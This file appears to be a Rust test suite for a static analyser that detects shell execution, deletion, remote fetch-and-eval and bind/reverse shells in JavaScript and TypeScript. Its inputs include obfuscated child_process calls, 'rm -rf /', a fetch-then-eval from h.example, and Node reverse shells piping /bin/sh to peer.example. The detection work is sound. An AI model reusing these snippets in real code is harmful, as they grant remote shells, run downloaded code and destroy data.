//! JavaScript and TypeScript.

use super::{check_in, effects_in};
use aegish_code_parsers::language::Language;
use aegish_test_support::clock::cpu_time;
use std::time::Duration;

fn check(table: &[(&str, &[&str])]) {
    check_in(Language::JavaScript, table);
}

#[test]
fn commands_are_found_in_every_spelling() {
    check(&[
        ("require(\"child_process\")[\"exec\"](\"id\")", &["shell id"]),
        ("import cp from \"node:child_process\"\ncp.execFileSync('ls', ['-a'])", &["argv ls|-a"]),
        ("import * as cp from 'child_process'; cp.exec('id')", &["shell id"]),
        ("global.process.mainModule.require('child_process').execSync('id')", &["shell id"]),
        ("require('child_process').spawn('/bin/sh', {stdio: [0, 1, 2]})", &["argv /bin/sh"]),
        ("const c = 'i' + 'd'; require('child_process').exec(c)", &["shell id"]),
        (
            "const d='/etc'; require('child_process').exec(`cat ${d}/hosts`)",
            &["shell cat /etc/hosts"],
        ),
        ("require('child_process').execSync(Buffer.from('6964','hex').toString())", &["shell id"]),
        ("require('child_process').exec('di'.split('').reverse().join(''))", &["shell id"]),
        ("require('child_process').exec(process.env.TARGET)", &["shell /srv/data.bin"]),
        ("require('child_process').exec(process.argv[1])", &["shell first-arg"]),
        ("function r(c) { require('child_process').exec(c) }\nr('id')", &["shell id"]),
        ("const r = c => require('child_process').exec(c);\nr('id')", &["shell id"]),
        (
            "['id','who'].forEach(c => require('child_process').execSync(c))",
            &["shell id", "shell who"],
        ),
        ("require('child_process').exec\\u0053ync('id')", &["shell id"]),
        ("const e\\u0078ec = require('child_process').exec; exec('id')", &["shell id"]),
    ]);
}

#[test]
fn branches_are_joined() {
    let run = "require('child_process').execSync('rm -rf ' + t)";
    for (code, expected) in [
        (
            format!("let t; if (x()) {{ t = '/' }} else {{ t = 'build' }} {run}"),
            vec!["shell rm -rf /", "shell rm -rf build"],
        ),
        (
            format!("let t = x() ? 'build' : '/'; {run}"),
            vec!["shell rm -rf build", "shell rm -rf /"],
        ),
        (
            format!("let t = '/'; try {{ t = 'build'; y() }} catch {{ t = 'a' }} {run}"),
            vec!["shell rm -rf build", "shell rm -rf a"],
        ),
        (
            format!(
                "let t; switch (x()) {{ case 1: t = '/'; break; case 2: t = 'a'; default: t = 'b' }} {run}"
            ),
            vec!["shell rm -rf /", "shell rm -rf b"],
        ),
        (
            format!("let t = 'a'; for (const u of x()) t = '/'; {run}"),
            vec!["shell rm -rf a", "shell rm -rf /"],
        ),
        (format!("let t = 'a'; {{ let t = '/' }} {run}"), vec!["shell rm -rf a"]),
        (format!("var t = 'a'; (() => {{ t = '/' }})(); {run}"), vec!["shell rm -rf /"]),
        (
            format!(
                "let t = ''; for (let i = 0; i < 3; i++) {{ if (i == 1) continue; t += i }} {run}"
            ),
            vec!["shell rm -rf 02"],
        ),
        (
            format!(
                "let t = ''; o: for (const a of ['x', 'y']) {{ for (const b of [1, 2]) {{ if (b == 2) continue o; t += a + b }} }} {run}"
            ),
            vec!["shell rm -rf x1y1"],
        ),
        (
            format!("let i = 0, t = ''; do {{ t += i; i++ }} while (i < 3); {run}"),
            vec!["shell rm -rf 012"],
        ),
        (
            format!("let t = 'a'; b: {{ if (x()) break b; t = '/' }} {run}"),
            vec!["shell rm -rf a", "shell rm -rf /"],
        ),
    ] {
        let mut got = effects_in(Language::JavaScript, &code);
        let mut expected: Vec<String> = expected.into_iter().map(str::to_owned).collect();
        got.sort();
        expected.sort();
        assert_eq!(got, expected, "{code}");
    }
}

#[test]
fn text_is_read_as_the_language_reads_it() {
    check(&[
        ("i++ / 2; require('child_process').execSync('id'); 1 / 2", &["shell id"]),
        ("if (x) {} /\"/; require('child_process').execSync('id') //\"", &["shell id"]),
        ("x = a / b; require('child_process').execSync('id') / 2", &["shell id"]),
        ("const s = `${require('child_process').execSync('id')}`", &["shell id"]),
        ("/* exec( */ // eval(\nconsole.log(1)", &["print 1\n"]),
        ("const m = /exec\\((.*)\\)/.exec(line)", &[]),
        ("return require('child_process').exec('id')", &["shell id"]),
        ("with (require('child_process')) exec('id')", &["shell id"]),
        ("1 <!-- x\nrequire('child_process').exec('id')", &["shell id", "hidden"]),
        ("require('child_process').exec('id'", &["hidden"]),
    ]);
}

#[test]
fn typescript_is_read() {
    check(&[
        (
            "import { execSync } from 'node:child_process';\nconst c: string = 'id';\nexecSync(c as any);",
            &["shell id"],
        ),
        ("import { execSync } from 'child_process'; execSync<string>('id')", &["shell id"]),
        ("enum C { A = 'id' }\nrequire('child_process').execSync(C.A)", &["shell id"]),
        (
            "class R { constructor(private c: string) {} go(): void { require('child_process').execSync(this.c) } }\nnew R('id').go()",
            &["shell id"],
        ),
        (
            "interface A { x: string }\ntype B = A | null;\nfunction f<T>(x: T): T { return x }\nrequire('child_process').execSync(f<string>('id')!)",
            &["shell id"],
        ),
        ("import fs = require('fs'); fs.unlinkSync('/srv/x')", &["delete /srv/x"]),
        (
            "const a = <div onClick={() => require('child_process').exec('id')}>don't</div>",
            &["shell id"],
        ),
    ]);
}

#[test]
fn functions_are_found_wherever_they_are_kept() {
    let table: Vec<(String, &[&str])> = [
        "exec.apply(null, ['id'])",
        "exec.call(null, 'id')",
        "exec.bind(null, 'id')()",
        "Reflect.apply(exec, null, ['id'])",
        "['id'].forEach(exec)",
        "['id'].map(c => exec(c))",
        "const o = { f: exec }; o.f('id')",
        "const o = { f: exec }; o['f']('id')",
        "const { f } = { f: exec }; f('id')",
        "const [f] = [exec]; f('id')",
        "exec(...['id'])",
        "(0, exec)('id')",
        "(x => x)(exec)('id')",
        "Function.prototype.call.call(exec, null, 'id')",
        "globalThis['ev' + 'al'](\"exec('id')\")",
        "new Map([['a', exec]]).get('a')('id')",
        "[exec].find(Boolean)('id')",
        "class A { static run(c) { exec(c) } } A.run('id')",
        "class A { run(c) { exec(c) } } class B extends A {} new B().run('id')",
        "class A { constructor(c) { this.c = c } } class B extends A { constructor() { super('id') } } exec(new B().c)",
        "class A { #c = 'id'; get c() { return this.#c } } exec(new A().c)",
        "class A { static c = 'id'; static { exec(this.c) } }",
        "class A { set c(v) { exec(v) } } new A().c = 'id'",
        "class A { [Symbol.iterator] = function* () { yield 'id' } } for (const c of new A()) exec(c)",
        "function A(c) { this.c = c } A.prototype.go = function () { exec(this.c) }; new A('id').go()",
        "function* g() { yield 'id' } for (const c of g()) exec(c)",
        "async function f() { return 'id' } f().then(exec)",
        "(async () => { exec(await Promise.resolve('id')) })()",
        "const f = (...a) => exec(a[0]); f('id')",
        "function f() { exec(arguments[0]) } f('id')",
        "function f(c = 'id') { exec(c) } f()",
        "function f({ c = 'id' } = {}) { exec(c) } f()",
        "const t = (s, v) => exec(s[0] + v); t`i${'d'}`",
        "let c; c ??= 'id'; exec(c)",
        "let c = ''; c ||= 'id'; exec(c)",
        "const o = { c: 'id', get d() { return this.c } }; exec(o.d)",
        "const o = { toString() { return 'id' } }; exec(`${o}`)",
        "label: for (const c of ['id']) { exec(c); break label }",
        "const o = { ...{ c: 'id' } }; exec(o?.c)",
        "try { throw 'id' } catch (e) { if (e === 'id') exec('id') }",
        "exec('x'.replace(/x/g, 'id'))",
        "exec('i-d'.split(/-/).join(''))",
        "exec('di'.replace(/(d)(i)/, '$2$1'))",
        "exec([...'di'].reverse().join(''))",
        "exec((105).toString(36).length ? 'id' : 'id')",
        "exec(Object.keys({ id: 1 })[0])",
        "for (const k in { id: 1 }) exec(k)",
        "exec(['i', 'd'].reduce((a, b) => a + b))",
        "const fs = []; for (let i = 0; i < 2; i++) fs.push(() => exec(['id', 'id'][i])); fs[0]()",
        "var exec2 = exec; { var c = 'id' } exec2(c)",
        "const p = new Promise((resolve) => resolve('id')); p.then(c => exec(c))",
        "require('util').promisify(exec)('id')",
        "process.on('exit', () => exec('id'))",
        "String.prototype.go = function () { exec(this) }; 'id'.go()",
        "exec(unescape('%69%64'))",
        "exec('\\x69\\u0064')",
        "exec(((a, b) => a + b)('i', 'd'))",
    ]
    .into_iter()
    .map(|code| {
        let all: &[&str] = &["shell id"];
        (format!("const {{ exec }} = require('child_process'); {code}"), all)
    })
    .collect();
    let table: Vec<(&str, &[&str])> =
        table.iter().map(|(code, all)| (code.as_str(), *all)).collect();
    check(&table);
}

#[test]
fn what_is_not_known_is_open() {
    check(&[
        ("require(process.argv[9] + x)('id')", &["hidden"]),
        ("globalThis[x()]('id')", &["hidden"]),
        ("require('child_process')[x()]('id')", &["hidden"]),
        ("process.binding('spawn_sync').spawn({ file: 'id', args: ['id'] })", &["hidden"]),
        (
            "const p = new Proxy({}, { get: (t, k) => require('child_process')[k] }); p.exec('id')",
            &["hidden"],
        ),
    ]);
}

#[test]
fn received_content_keeps_its_source() {
    check(&[
        (
            "const h=require('https');h.get('https://h.example/x',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})",
            &["fetch https://h.example/x", "received"],
        ),
        (
            "sh = require('child_process').spawn('/bin/sh');\nrequire('net').createServer(function (client) {\n  client.pipe(sh.stdin);\n  sh.stdout.pipe(client);\n}).listen(9009)",
            &["argv /bin/sh", "listen  9009", "attach"],
        ),
        (
            "sh = require(\"child_process\").spawn(\"/bin/sh\");\nrequire(\"net\").connect(process.env.PORT, process.env.PEER, function () {\n  this.pipe(sh.stdin);\n  sh.stdout.pipe(this);\n})",
            &["argv /bin/sh", "connect peer.example 7001", "attach"],
        ),
    ]);
}

#[test]
fn harmless_code_gives_nothing() {
    check(&[
        ("require('lodash').map([1], x => x)", &[]),
        ("process.stdin.on('data', d => console.log(d.length))", &[]),
        ("const o = {exec: 1, eval: 'x'}; o.exec", &[]),
        ("class A { exec(x) { return x } }", &[]),
        ("let x = a / b / c; y = 'exec'", &[]),
        ("console.log(process.version)", &[]),
        ("sh = require('child_process').spawn('ls'); sh.stdout.pipe(process.stdout)", &["argv ls"]),
        (
            "console.log(JSON.parse(require('fs').readFileSync('package.json')).version)",
            &["read package.json"],
        ),
        ("const path = require('path'); console.log(path.join('a','b'))", &["print a/b\n"]),
    ]);
}

#[test]
fn deep_nesting_neither_overflows_nor_takes_long() {
    let deep = [
        "(".repeat(10_000) + &")".repeat(10_000),
        "[".repeat(10_000) + &"]".repeat(10_000),
        "{".repeat(10_000) + &"}".repeat(10_000),
        "(".repeat(390) + "1" + &")".repeat(390),
        "(a=".repeat(390) + "1" + &")".repeat(390),
        "async(".repeat(390) + "1" + &")".repeat(390),
        "x = ".to_owned() + &"!".repeat(10_000) + "1",
        "x = ".to_owned() + &"- ".repeat(10_000) + "1",
        "x = ".to_owned() + &"typeof ".repeat(10_000) + "1",
        "x = 1".to_owned() + &" + 1".repeat(50_000),
        "x = a".to_owned() + &".b".repeat(50_000),
        "x = a".to_owned() + &"()".repeat(10_000),
        "a => ".repeat(10_000) + "1",
        "a ? b : ".repeat(10_000) + "1",
        "x = 1".to_owned() + &" ** 1".repeat(10_000),
        "a = ".repeat(10_000) + "1",
        "if (a) ".repeat(10_000) + "b",
        "a: ".repeat(10_000) + "b",
        "`${".repeat(5_000) + "x" + &"}`".repeat(5_000),
        "<a>".repeat(5_000) + &"</a>".repeat(5_000),
        "x = ".to_owned() + &"(()=>{if(x)/))))))/;".repeat(5_000),
        "if (a) b; else ".repeat(5_000) + "c",
        "let x: ".to_owned() + &"A<".repeat(5_000),
        "new ".repeat(10_000) + "a",
        "x = [".repeat(3_000),
    ];
    for code in deep {
        let start = cpu_time();
        effects_in(Language::JavaScript, &code);
        let took = cpu_time() - start;
        // Builds for tests are not optimised; the bar of the design is 50 ms.
        assert!(took < Duration::from_secs(2), "{} takes {took:?}", &code[..20]);
    }
}

#[test]
fn long_programs_are_not_taken_for_deep_ones() {
    let line = "const a1 = f(x => { if (x) { return [x / 2, { y: x }] } else return /a[/]b/.test(`${x}`) })\n";
    assert_eq!(effects_in(Language::JavaScript, &line.replace("a1", "a")), Vec::<String>::new());
    let many: String = (0..800).map(|n| line.replace("a1", &format!("a{n}"))).collect();
    assert_eq!(effects_in(Language::JavaScript, &many), Vec::<String>::new());
}

#[test]
fn long_loops_and_recursion_end() {
    for code in [
        "let i = 0; while (i < 1e9) i++",
        "for (let i = 0; i < 1e7; i++) for (let j = 0; j < 1e7; j++) x = i * j",
        "function f(n) { return f(n - 1) + f(n - 2) } f(50)",
        "let x = 'a'; while (true) { x = x + x; if (x == 'b') break }",
        "const l = []; for (let i = 0; i < 100000; i++) l.push(i)",
        "function f(g) { g(g) } f(f)",
        "let f = 1; for (let i = 0; i < 60; i++) { const g = f; f = () => [g, g] }",
        "const o = {}; o.o = o; for (let i = 0; i < 60; i++) o['a' + i] = o; String(o); JSON.stringify(o)",
        "const a = []; a.push(a); String(a); a.flat(99)",
    ] {
        let start = cpu_time();
        let got = effects_in(Language::JavaScript, code);
        let took = cpu_time() - start;
        assert!(took < Duration::from_secs(2), "{code}: {took:?}");
        assert!(got.is_empty(), "{code}: {got:?}");
    }
}
